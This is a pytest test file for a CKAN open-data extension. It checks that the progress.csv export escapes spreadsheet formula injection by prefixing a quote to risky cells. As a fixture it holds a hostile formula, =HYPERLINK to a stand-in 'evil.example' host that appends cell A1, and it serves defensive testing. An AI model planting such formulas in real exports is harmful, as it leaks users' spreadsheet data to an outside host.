"""progress.csv follows the suite's policy against formula injection
(``ckanext/tmopendata/lib/spreadsheet.py``): a text cell starting with
= + - @ (or a tab/CR) gets a ``'`` in front; numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pytest
from freezegun import freeze_time

from ckan.tests.helpers import call_action

from tests.progress.conftest import TODAY

pytestmark = [pytest.mark.plugins("tmopendata", "tmopendata_hvd", "tmopendata_census", "tmopendata_progress"), pytest.mark.usefixtures("with_plugins")]

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@freeze_time(TODAY)
def test_progress_csv_escapes_formulas(app, portal):
    call_action("organization_patch", {"user": "root"}, id="directia-economica", title=EVIL)
    call_action("organization_patch", {"user": "root"}, id="directia-mobilitate", title="@SUM(1+1)")
    response = app.get("/tmopendata/progress.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    titles = {row[2] for row in rows[1:] if row[1]}
    assert titles == {"'" + EVIL, "'@SUM(1+1)"}
    # figures are written as they are (numbers are not escaped)
    values = [row[4] for row in rows[1:] if row[3] == "datasets_published" and not row[1]]
    assert values == ["4"]
